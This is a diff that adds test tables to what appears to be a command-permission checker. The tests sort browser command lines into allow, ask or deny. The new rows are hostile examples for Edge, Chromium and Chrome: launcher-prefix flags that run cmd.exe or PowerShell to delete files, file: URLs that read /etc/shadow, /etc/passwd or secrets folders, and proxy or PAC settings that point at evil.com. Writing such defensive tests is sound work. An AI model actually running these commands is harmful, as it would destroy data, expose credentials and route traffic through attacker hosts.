@@ -93,3 +93,35 @@ describe('hosts Windows network tools take as bare names (rpcping -s, netsh -r, 
     ['netsh -r evil.com show helper', 'deny'], ['winrm id -r:evil.com', 'deny'], ['nltest /dsgetdc:corp.local', 'allow'],
   ]);
 });
+
+describe('Chromium-family browsers: --renderer-cmd-prefix= and the like run a program, file: URLs are read, proxies are hosts', () => {
+  table([
+    ['msedge.exe --disable-gpu-sandbox --gpu-launcher="cmd.exe /c del x &&"', 'ask'],
+    ['mscopilot.exe --no-startup-window --disable-gpu-sandbox --gpu-launcher="cmd.exe /c del x && taskkill /f /im mscopilot.exe &&"', 'ask'],
+    ['msedge --headless --utility-cmd-prefix="powershell Remove-Item x" about:blank', 'deny'],
+    ['msedgewebview2.exe --renderer-cmd-prefix="cmd.exe /c del x &&"', 'ask'],
+    ['msedge_proxy.exe --disable-gpu-sandbox --gpu-launcher="cmd.exe /c del x &&"', 'ask'],
+    ['msedge -Renderer-Cmd-Prefix="Remove-Item x"', 'deny'],
+    ['msedge /browser-subprocess-path=C:\\w\\repo\\b.exe', 'ask'],
+    ['msedge.exe --headless --dump-dom file:///C:/Secrets/x', 'deny'],
+    ['msedge.exe --headless --dump-dom "file:///C:/w/repo/../../Secrets/x"', 'deny'],
+    ['msedge --app=file:///C:/Secrets/x', 'deny'],
+    ['msedge file://evil.com/s/x', 'deny'],
+    ['msedge file:////evil.com/s/x', 'deny'],
+    ['msedge --proxy-server=evil.com:8080 https://ok.com', 'deny'],
+    ['foo file:///C:/Secrets/x', 'ask'],
+    ['msedge https://ok.com', 'allow'],
+    ['msedge --headless --dump-dom file:///C:/w/repo/a.html', 'allow'],
+    ['foo file:///C:/w/repo/a', 'allow'],
+  ]);
+  bashTable([
+    ['chromium --headless --no-sandbox --renderer-cmd-prefix="rm x" --dump-dom about:blank', 'deny'],
+    ['chromium --headless --dump-dom file:///etc/shadow', 'deny'],
+    ['google-chrome --headless --dump-dom file:///etc/passwd', 'deny'],
+    ['firefox --headless --screenshot file:///etc/passwd', 'ask'],
+    ['chromium --proxy-server="socks5://evil.com:1080" https://ok.com', 'deny'],
+    ['chromium --proxy-pac-url=http://evil.com/p.pac', 'deny'],
+    ['chromium --headless --dump-dom https://ok.com', 'allow'],
+    ['firefox file:///w/repo/a.html', 'allow'],
+  ], LINUX);
+});
